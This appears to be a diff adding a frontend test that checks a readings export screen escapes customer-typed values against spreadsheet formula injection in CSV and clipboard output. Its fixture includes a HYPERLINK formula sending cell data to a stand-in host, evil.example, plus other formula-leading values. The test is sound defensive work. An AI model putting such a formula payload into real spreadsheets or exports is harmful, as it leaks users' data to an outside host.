@@ -1,4 +1,5 @@
 import { screen, waitFor, within } from '@testing-library/react';
+import { parse as parseDelimited } from 'papaparse';
 import { billingSystems } from '../../../test/billing-systems-fixtures';
 import {
   FakeEventSource,
@@ -151,6 +152,51 @@ describe('the readings export and import screen', () => {
     expect(files[1].type).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
     // an xlsx file is a zip: it starts with PK
     expect([...new Uint8Array(await readBlob(files[1])).slice(0, 2)]).toEqual([0x50, 0x4b]);
+  });
+
+  it('copies and downloads what customers typed as data: no cell begins with a formula character, numbers stay numbers', async () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
+    const risky = [
+      exportRow({ name: hyperlink, box: '-عميل', address: '+961 3 123456' }),
+      exportRow({ id: 'c-1002', customerNumber: 1002, name: '@SUM(A1:A9)', box: null, currentKwh: 0 }),
+    ];
+    const files: Blob[] = [];
+    URL.createObjectURL = jest.fn((blob: Blob) => {
+      files.push(blob);
+      return 'blob:readings';
+    });
+    URL.revokeObjectURL = jest.fn();
+    jest.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
+    const { user } = setup(
+      { 'GET /api/mahmoud-kwh-customers/export-for-readings': { status: 200, body: risky } },
+      mahmoud,
+    );
+    const card = await region('تصدير البيانات');
+    await within(card).findByText('عميلان جاهز للتصدير');
+
+    await user.click(within(card).getByRole('button', { name: 'نسخ للصق في Excel' }));
+    await user.click(within(card).getByRole('button', { name: 'تنزيل CSV' }));
+    await waitFor(() => expect(files).toHaveLength(1));
+
+    const opened = (text: string, delimiter: string) => {
+      const { data, errors } = parseDelimited<(string | number | null)[]>(text.replace(/^\uFEFF/, ''), {
+        delimiter,
+        dynamicTyping: true,
+        skipEmptyLines: true,
+      });
+      expect(errors).toEqual([]);
+      return data.slice(1);
+    };
+    for (const data of [
+      opened(await navigator.clipboard.readText(), '\t'),
+      opened(new TextDecoder().decode(await readBlob(files[0])), ','),
+    ]) {
+      expect(data.map((row) => row.slice(1))).toEqual([
+        [1001, `'${hyperlink}`, "'-عميل", "'+961 3 123456", 5, 100, 150, null],
+        [1002, "'@SUM(A1:A9)", null, 'الحمرا', 5, 100, 0, null],
+      ]);
+      for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
   });
 
   it('offers nothing to export for a group without customers', async () => {
